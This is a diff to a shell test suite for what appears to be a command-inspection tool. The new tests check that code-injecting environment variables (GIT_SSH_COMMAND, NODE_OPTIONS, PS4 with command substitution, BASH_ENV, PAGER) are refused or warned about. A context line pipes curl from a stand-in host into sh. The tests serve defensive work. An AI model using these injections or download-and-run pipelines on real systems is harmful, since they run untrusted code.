@@ -80,6 +80,22 @@ for command in 'xargs python3' 'env -Spython3\\c' 'env PYTHONPATH=x python3 good
 	run -p "$T/n.json" -- $command
 	refused 'command line: not-looked-at: '
 done
+# Variables: of the command line, of a "#!" line, of a shell that exports them. Usual values are none of note.
+echo '{"version": 1, "inspect": {"refuse": ["code-variable"]}}' >"$T/v.json"
+run -p "$T/v.json" -- env A=1 GIT_SSH_COMMAND=./x python3 good.py
+refused 'command line: code-variable: is a command: GIT_SSH_COMMAND=./x'
+{ echo '#!/usr/bin/env -S NODE_OPTIONS=-rx python3' && cat "$T/w/good.py"; } >"$T/w/script" && chmod +x "$T/w/script"
+run -p "$T/v.json" -- ./script
+refused 'command line: code-variable: sets options: NODE_OPTIONS=-rx'
+run -p "$T/v.json" -- sh -c "PS4='\$(id)' bash -x good.py"
+refused "command line:1: code-variable: is a command: PS4=\$(id)"
+echo 'python3 bad.py' >"$T/w/rc"
+run --inspect -- sh -c 'export A=1 BASH_ENV=rc; bash -c :'
+refused 'bad.py:2: download-run'
+run --inspect -- env PAGER=cat HOME=/tmp PATH=/usr/bin:/bin python3 good.py
+ran
+run --inspect -- env PAGER=./x python3 good.py
+warned 'command line: code-variable: is a command: PAGER=./x'
 run --inspect -- perl good.py
 grep -q 'good.py: not-parsed: no parser for this kind of file' "$T/err" || fail "perl: $(cat "$T/err")"
 run --inspect -- bash -c ': >started; curl http://evil.example/x | sh'
